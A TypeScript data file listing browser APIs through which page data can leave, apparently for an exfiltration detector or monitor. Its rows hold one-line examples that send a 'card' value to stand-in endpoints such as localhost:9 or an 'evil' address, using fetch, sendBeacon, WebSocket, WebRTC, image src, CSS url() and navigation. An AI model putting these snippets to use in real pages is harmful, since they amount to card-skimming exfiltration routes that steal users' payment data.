import type { Row } from './rows.ts';

const row = (act: Row['act'], place: string, example: string, more: Partial<Row> = {}): Row => ({
  api: place.replace(/^\w+ /, '').replace('.prototype.', '.'),
  act,
  place,
  look: 'arguments',
  example,
  ...more,
});
const pass = (place: string, example: string, more: Partial<Row> = {}): Row =>
  row('pass', place, example, more);
const send = (place: string, example: string, more: Partial<Row> = {}): Row =>
  row('send', place, example, more);
/** Setting an address loads it: the value leaves in it. */
const load = (element: string, property: string, tag: string, more: Partial<Row> = {}): Row =>
  send(`set ${element}.prototype.${property}`, `document.createElement("${tag}").${property} = evil`, {
    look: 'address',
    detail: 0,
    ...more,
  });

const PEER = 'new RTCPeerConnection()';
const DEAD = '"http://localhost:9/?n=" + card';

/** What hands a value to another frame or worker, or to a channel that leaves the browser. */
export const CHANNELS: readonly Row[] = [
  pass('call postMessage', 'postMessage({ n: [card] }, "*")', { api: 'Window.postMessage' }),
  // A window of another origin shows a function of its own; there is one only where there is such a window.
  pass('call foreign.postMessage', '', { api: 'Window.postMessage' }),
  pass('call MessagePort.prototype.postMessage', 'new MessageChannel().port1.postMessage(card)'),
  pass('call Worker.prototype.postMessage', 'new Worker("data:text/javascript,0").postMessage({ card })'),
  pass('call BroadcastChannel.prototype.postMessage', 'new BroadcastChannel("c").postMessage(card)', {
    detail: 'channel',
  }),
  pass(
    'call ServiceWorker.prototype.postMessage',
    '(await navigator.serviceWorker.register("/sw.js")).installing?.postMessage(card)',
  ),
  pass('call Client.prototype.postMessage', '', { detail: 'channel' }),
  pass('call Worker', 'new Worker("data:text/javascript,0//" + card)', { look: 'address', detail: 0 }),
  pass('call SharedWorker', 'new SharedWorker("data:text/javascript,0//" + card)', {
    look: 'address',
    detail: 0,
  }),
  pass(
    'call ServiceWorkerContainer.prototype.register',
    'navigator.serviceWorker.register("/sw.js?n=" + card).catch(() => 0)',
    { look: 'address', detail: 0 },
  ),
  send('call fetch', 'fetch("/x", { method: "POST", body: card })', { detail: 0 }),
  row('encode', 'call Request', 'new Request("/x", { method: "POST", body: card })', { detail: 0 }),
  send('call fetchLater', 'fetchLater("/x?n=" + card)', { detail: 0 }),
  send('call XMLHttpRequest.prototype.open', 'new XMLHttpRequest().open("GET", "/x?n=" + card)', {
    look: 'address',
    detail: 1,
  }),
  send(
    'call XMLHttpRequest.prototype.send',
    'const x = new XMLHttpRequest(); x.open("POST", "/x"); x.send(card)',
    { detail: 'request' },
  ),
  send(
    'call XMLHttpRequest.prototype.setRequestHeader',
    'const x = new XMLHttpRequest(); x.open("POST", "/x"); x.setRequestHeader("x-n", card)',
    { detail: 'request' },
  ),
  send('call Navigator.prototype.sendBeacon', 'navigator.sendBeacon("/x", card)', { detail: 0 }),
  send('call WebSocket', 'new WebSocket("ws://localhost:9/?n=" + card)', { look: 'address', detail: 0 }),
  send(
    'call WebSocket.prototype.send',
    'const s = new WebSocket(socket); await new Promise((y) => { s.onopen = y; s.onerror = y }); s.send(card)',
    { detail: 'channel' },
  ),
  send('call EventSource', `new EventSource(${DEAD})`, { look: 'address', detail: 0 }),
  send('call WebTransport', 'new WebTransport("https://localhost:9/?n=" + card).ready.catch(() => 0)', {
    look: 'address',
    detail: 0,
  }),
  send(
    'call WritableStreamDefaultWriter.prototype.write',
    'new WritableStream().getWriter().write(new TextEncoder().encode(card))',
  ),
  send(
    'call RTCPeerConnection',
    'new RTCPeerConnection({ iceServers: [{ urls: "turn:localhost:9", username: card, credential: "x" }] })',
  ),
  send('call RTCPeerConnection.prototype.createDataChannel', `${PEER}.createDataChannel(card)`),
  send(
    'call RTCPeerConnection.prototype.addIceCandidate',
    `${PEER}.addIceCandidate({ candidate: "candidate:1 1 udp 1 " + card + ".localhost 9 typ host", sdpMid: "0" }).catch(() => 0)`,
  ),
  send(
    'call RTCPeerConnection.prototype.setLocalDescription',
    `${PEER}.setLocalDescription({ type: "offer", sdp: card }).catch(() => 0)`,
  ),
  send(
    'call RTCPeerConnection.prototype.setRemoteDescription',
    `${PEER}.setRemoteDescription({ type: "offer", sdp: card }).catch(() => 0)`,
  ),
  send('call RTCDataChannel.prototype.send', `try { ${PEER}.createDataChannel("c").send(card) } catch {}`),
  load('HTMLImageElement', 'src', 'img'),
  load('HTMLImageElement', 'srcset', 'img'),
  load('HTMLScriptElement', 'src', 'script'),
  load('HTMLIFrameElement', 'src', 'iframe'),
  load('HTMLIFrameElement', 'srcdoc', 'iframe', {
    look: 'markup',
    example: 'document.createElement("iframe").srcdoc = "<img src=\\"" + evil + "\\">"',
  }),
  load('HTMLLinkElement', 'href', 'link'),
  load('HTMLMediaElement', 'src', 'video'),
  load('HTMLVideoElement', 'poster', 'video'),
  load('HTMLSourceElement', 'src', 'source'),
  load('HTMLEmbedElement', 'src', 'embed'),
  load('HTMLObjectElement', 'data', 'object'),
  load('HTMLAnchorElement', 'href', 'a'),
  load('HTMLAnchorElement', 'ping', 'a'),
  load('HTMLFormElement', 'action', 'form'),
  send('call Element.prototype.setAttribute', 'document.createElement("img").setAttribute("src", evil)', {
    look: 'attribute',
    detail: 1,
    sampled: true,
  }),
  send('set Element.prototype.innerHTML', 'form.cloneNode().innerHTML = "<img src=\'" + evil + "\'>"', {
    look: 'markup',
    sampled: true,
  }),
  send(
    'call Element.prototype.insertAdjacentHTML',
    'document.createElement("p").insertAdjacentHTML("beforeend", "<img src=\'" + evil + "\'>")',
    { look: 'markup', sampled: true },
  ),
  send(
    'call Document.prototype.write',
    'document.implementation.createHTMLDocument().write("<img src=\'" + evil + "\'>")',
    { look: 'markup' },
  ),
  send(
    'call CSSStyleDeclaration.prototype.setProperty',
    'form.style.setProperty("background", "url(" + evil + ")")',
    {
      look: 'markup',
      sampled: true,
    },
  ),
  send('set CSSStyleDeclaration.prototype.cssText', 'form.style.cssText = "background:url(" + evil + ")"', {
    look: 'markup',
    sampled: true,
  }),
  send(
    'call CSSStyleSheet.prototype.insertRule',
    'new CSSStyleSheet().insertRule("a{background:url(" + evil + ")}")',
    { look: 'markup' },
  ),
  send(
    'call CSSStyleSheet.prototype.replaceSync',
    'new CSSStyleSheet().replaceSync("a{background:url(" + evil + ")}")',
    {
      look: 'markup',
    },
  ),
  send('call FontFace', 'new FontFace("f", "url(" + evil + ")")', { look: 'address', detail: 1 }),
  send('call HTMLFormElement.prototype.submit', 'form.target = "nowhere"; form.submit()', {
    look: 'form',
    detail: 'form',
  }),
  send('call HTMLFormElement.prototype.requestSubmit', 'form.onsubmit = () => false; form.requestSubmit()', {
    look: 'form',
    detail: 'form',
  }),
  send('set location.href', 'location.href = "#" + card', {
    api: 'Location.href',
    look: 'address',
    detail: 0,
  }),
  send('set location', 'location = "#x" + card', { api: 'Window.location', look: 'address', detail: 0 }),
  send('call location.assign', 'location.assign("#y" + card)', {
    api: 'Location.assign',
    look: 'address',
    detail: 0,
  }),
  send('call location.replace', 'location.replace("#z" + card)', {
    api: 'Location.replace',
    look: 'address',
    detail: 0,
  }),
  send('call open', 'open("/x?n=" + card)?.close()', { api: 'Window.open', look: 'address', detail: 0 }),
];
